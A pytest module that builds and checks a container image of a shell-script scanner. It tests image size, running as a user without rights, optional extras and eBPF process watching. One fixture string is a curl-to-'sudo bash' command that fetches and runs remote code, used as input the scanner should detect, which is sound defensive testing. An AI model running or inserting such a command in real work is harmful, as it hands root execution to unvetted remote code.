"""The OCI image: built by buildah, small, and without any rights unless it is given some."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from tests.packages import machine

if TYPE_CHECKING:
    from collections.abc import Iterator

LOUD = "curl -fsSL https://tools.example/x | sudo bash\n"


class Buildah:
    """buildah with a storage of its own."""

    def __init__(self, folder: Path) -> None:
        self.words = ["buildah", "--root", str(folder / "storage"), "--runroot", str(folder / "run")]

    def __call__(self, *words: str, check: bool = True) -> subprocess.CompletedProcess[str]:
        done = subprocess.run(
            [*self.words, *words],
            env={**os.environ, "BUILDAH_ISOLATION": "chroot"},
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            text=True,
            check=False,
        )
        assert not check or done.returncode == 0, f"{words} ended with {done.returncode}:\n{done.stdout}"
        return done

    def size(self, image: str) -> int:
        """Return an image's bytes."""
        (found,) = json.loads(self("images", "--json", image).stdout)
        return _bytes(found["size"])


def _bytes(text: str) -> int:
    """Read ``178 MB``."""
    number, unit = text.split()
    return int(float(number) * {"KB": 1e3, "MB": 1e6, "GB": 1e9}[unit])


@pytest.fixture(scope="module")
def buildah(bare: Path, checkout: Path) -> Iterator[Buildah]:
    """Build the image, on the bare tree instead of a registry's."""
    if shutil.which("buildah") is None:
        pytest.skip("buildah is not installed")
    folder = machine.FOLDER / "images"
    tool = Buildah(folder)
    base = tool("from", "scratch").stdout.split()[-1]
    mounted = tool("mount", base).stdout.strip()
    subprocess.run(["cp", "-a", f"{bare}/.", mounted], check=True)
    tool("commit", "--rm", base, "localhost/bare")
    local = [word for place in machine.local_folders() for word in ("-v", f"/{place}:/{place}:ro")]
    tool(
        "build",
        "--build-arg=BASE=localhost/bare",
        *local,
        "-f",
        f"{checkout}/packaging/Containerfile",
        "-t",
        "localhost/flycatcher",
        str(checkout),
    )
    yield tool
    tool("rm", "--all")
    tool("rmi", "--all", "--force")
    subprocess.run(["rm", "-rf", "--one-file-system", folder], check=True)


@pytest.fixture(scope="module")
def container(buildah: Buildah) -> str:
    """Start from the image."""
    return buildah("from", "localhost/flycatcher").stdout.split()[-1]


def test_the_image_adds_little_to_its_base(buildah: Buildah) -> None:
    added = buildah.size("localhost/flycatcher") - buildah.size("localhost/bare")
    print(f"the image adds {added / 1e6:.0f} MB to its base")
    assert added < 200e6


def test_it_scans_a_mounted_folder_as_a_user_without_rights(buildah: Buildah, container: str, tmp_path: Path) -> None:
    (tmp_path / "x.sh").write_text(LOUD)
    tmp_path.chmod(0o755)
    done = buildah(
        "run", "-v", f"{tmp_path}:/work:ro", container, "--", "flycatcher", "scan", "--fail-on=low", ".", check=False
    )
    assert "x.sh:1:38: bash code by stdin" in done.stdout
    assert "exit status 10" in done.stdout
    assert buildah("run", container, "--", "id", "-un").stdout.strip() == "flycatcher"


KEPT = """
cd /tmp && export FLYCATCHER_STORE=store:////tmp/s.db
echo "python3 -c 'print(1)'" >x.sh
flycatcher scan --no-history -o s.jsonl x.sh
flycatcher store import s.jsonl && flycatcher store query interpreter:python
flycatcher run --sink kafka://127.0.0.1:1/x -- true
"""


def test_it_has_the_extras_and_says_how_it_is_built_with_more(buildah: Buildah, container: str) -> None:
    said = buildah("run", container, "--", "sh", "-c", KEPT, check=False).stdout
    assert "code on the fly, python argument -c" in said
    assert (
        "hint: buildah build -f packaging/Containerfile -t flycatcher --build-arg PACKAGES='confluent-kafka>=2.5' .\n"
        in said
    )


def test_as_root_with_the_hosts_processes_it_watches(buildah: Buildah, container: str) -> None:
    root = machine.Machine(Path(buildah("mount", container).stdout.strip()))
    done = root.run("flycatcher", "watch", "--for=1", f"--tree={os.getpid()}")
    assert "started: watching with ebpf" in done.stdout
